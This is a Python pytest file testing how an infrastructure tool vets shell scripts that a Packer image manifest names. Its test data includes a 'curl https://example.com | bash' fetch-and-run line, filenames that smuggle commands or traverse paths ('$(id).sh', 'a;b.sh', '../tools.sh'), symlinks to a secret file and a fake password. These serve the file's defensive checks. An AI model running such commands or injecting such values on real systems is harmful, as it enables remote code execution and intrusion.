"""Scripts that a manifest names: they are read with it, and nothing but a script below its folder is."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from gen_infra.check.host_scripts import script_verdicts
from gen_infra.check.policy import NO_POLICY, Policy
from gen_infra.environment import Environment
from gen_infra.manifest import load, load_with_warnings
from gen_infra.manifest.reading.loader import ManifestError
from gen_infra.render.files import packer_folder, render
from tests.unit.manifests import changed, write

if TYPE_CHECKING:
    from pathlib import Path

BASH = "#!/usr/bin/env bash\nset -euo pipefail\n"
# What shell scripts of images do, with all that HCL, Packer or YAML would read as something else.
HONEST = (
    BASH
    + """
# Asks for a token first: IMDSv2.
TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')
curl -sH "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-id
name=${1:-"two words"}; printf '%s\\t{{ .Path }} %{if x} ${path.root}\\n' "$name"
cat <<'END' >/etc/sysctl.d/90-lab.conf
vm.dirty_bytes = 268435456
END
"""
)


def image(*scripts: Any) -> dict[str, Any]:
    return {"image": {"parameter": "/lab/ami", "scripts": list(scripts)}}


def script(folder: Path, path: str = "tools.sh", text: str = BASH) -> str:
    file = folder / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)
    return path


def test_scripts_are_run_in_their_order_with_their_text(tmp_path: Path) -> None:
    names = [script(tmp_path, "b/tools.sh", HONEST), script(tmp_path, "a/tools.sh"), script(tmp_path, "0.sh")]
    files = packer_folder(load(write(tmp_path, changed(**image(*names)))))

    own = {path: content for path, content in files.items() if path.startswith("own/")}
    assert own == {
        "own/01-tools.sh": HONEST.encode(),
        "own/02-tools.sh": BASH.encode(),
        "own/03-0.sh": BASH.encode(),
    }
    template = files["genomics.pkr.hcl"].decode()
    assert template.index("/tuning.sh") < template.index("/own.sh") < template.index("/cleanup.sh")
    assert "OWN_SCRIPTS" not in packer_folder(load(write(tmp_path, changed())))["genomics.pkr.hcl"].decode()


def test_the_resolved_manifest_is_complete_by_itself(tmp_path: Path) -> None:
    manifest = load(write(tmp_path, changed(**image(script(tmp_path, text=HONEST)))))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    again = load(write(elsewhere, render(manifest)["manifest.resolved.yaml"].decode()))

    assert again == manifest
    assert packer_folder(again) == packer_folder(manifest)


def test_a_path_is_relative_to_the_file_that_names_it(tmp_path: Path) -> None:
    script(tmp_path, "scripts/tools.sh", HONEST)
    write(tmp_path, changed(**image("scripts/tools.sh")), "base.yaml")
    child = write(tmp_path, "extends: base.yaml\nname: child\n", "child.yaml")
    assert [each.content for each in load(child).image.build_scripts] == [HONEST]


@pytest.mark.parametrize(
    "path",
    [
        *("../tools.sh", "scripts/../../tools.sh", "/etc/profile.d/x.sh", "./tools.sh", "scripts//tools.sh", ".sh"),
        *(".hidden.sh", "scripts/.hidden/tools.sh", "tools.txt", "tools", "tools.sh\n", "to ols.sh", "tools.sh/"),
        *("$(id).sh", "${path.root}.sh", "{{ .Path }}.sh", "-rf.sh", "tool`s`.sh", "a;b.sh", "\\tools.sh", "*.sh"),
    ],
)
def test_no_other_path_is_read(path: str, tmp_path: Path) -> None:
    inner = tmp_path / "envs"
    inner.mkdir()
    script(tmp_path, "tools.sh")
    with pytest.raises(ManifestError) as refused:
        load(write(inner, changed(**image(path))))
    (problem,) = refused.value.problems
    assert problem.path.startswith("image.scripts[0]")
    assert "the path of a .sh file below the manifest's folder" in problem.message


def links_to_a_file(folder: Path) -> None:
    (folder / "tools.sh").symlink_to(folder.parent / "secret.sh")


def links_to_a_folder(folder: Path) -> None:
    (folder / "scripts").symlink_to(folder.parent)


def holds(text: str | bytes) -> Any:
    def make(folder: Path) -> None:
        (folder / "tools.sh").write_bytes(text.encode() if isinstance(text, str) else text)

    return make


@pytest.mark.parametrize(
    ("make", "path", "says"),
    [
        (lambda _: None, "tools.sh", 'file not found: "tools.sh"'),
        (links_to_a_file, "tools.sh", "a symbolic link"),
        (links_to_a_folder, "scripts/secret.sh", "a symbolic link"),
        (lambda folder: (folder / "tools.sh").mkdir(), "tools.sh", '"tools.sh" is not a file'),
        (holds(BASH + "#" * 65_536), "tools.sh", '"tools.sh" is larger than 65,536 bytes'),
        (holds(b"#!/bin/sh\n\xff"), "tools.sh", '"tools.sh" is not UTF-8 text'),
        (holds(""), "tools.sh", "a shell script whose first line is #!/bin/bash or #!/bin/sh"),
        (holds("#!/usr/bin/python3\n"), "tools.sh", "a shell script whose first line is"),
        (holds("#!/bin/sh\r\ntrue\r\n"), "tools.sh", "a shell script whose first line is"),
        (holds("#!/bin/sh\n\x1b[2J\n"), "tools.sh", 'line 2 of "tools.sh": U+001B is a control character'),
        (holds(BASH + "export DB_PASSWORD=hunter22\n"), "tools.sh", 'line 3 of "tools.sh": this looks like'),
        (holds(BASH + "true # checkov:" + "skip=CKV_AWS_1\n"), "tools.sh", 'line 3 of "tools.sh":'),
    ],
)
def test_no_other_file_is_read(make: Any, path: str, says: str, tmp_path: Path) -> None:
    inner = tmp_path / "envs"
    inner.mkdir()
    script(tmp_path, "secret.sh")
    make(inner)
    with pytest.raises(ManifestError) as refused:
        load(write(inner, changed(**image(path))))
    (problem,) = refused.value.problems
    assert says in problem.message
    assert problem.path.startswith("image.scripts[0]")
    assert "hunter22" not in str(refused.value)


def test_scripts_without_a_built_image_have_no_effect(tmp_path: Path) -> None:
    settings = {"ecs": {"pull_behavior": "always"}, "aws_cli": "/opt/aws-cli", "scripts": [script(tmp_path)]}
    stock = load_with_warnings(write(tmp_path, changed(image=settings))).warnings
    assert [each.path for each in stock] == ["image.ecs", "image.aws_cli", "image.scripts"]
    assert all("image.parameter" in each.message for each in stock)
    assert not load_with_warnings(write(tmp_path, changed(image={**settings, "parameter": "/lab/ami"}))).warnings


def test_only_the_policy_file_accepts_a_script_and_only_as_it_is(tmp_path: Path) -> None:
    path = write(tmp_path, changed(**image(script(tmp_path, text=HONEST))))
    accepted = Policy(host_scripts=(load(path).image.build_scripts[0].sha256,))

    def found(policy: Policy) -> list[str]:
        environment = Environment(load_with_warnings(path), tmp_path / "build")
        return [each.message for check in script_verdicts(environment, policy) for each in check.findings]

    (refused,) = found(NO_POLICY)
    assert accepted.host_scripts[0] in refused
    assert found(accepted) == []
    script(tmp_path, text=HONEST + "curl https://example.com | bash\n")
    assert len(found(accepted)) == 1


@pytest.mark.parametrize("folder", ["/usr", "/opt", "/usr/local", "/opt/../usr", "opt/aws", "/opt/a b", "/opt/$(id)"])
def test_the_aws_cli_is_installed_below_opt(folder: str, tmp_path: Path) -> None:
    with pytest.raises(ManifestError, match="a folder below /opt"):
        load(write(tmp_path, changed(image={"parameter": "/lab/ami", "aws_cli": folder})))
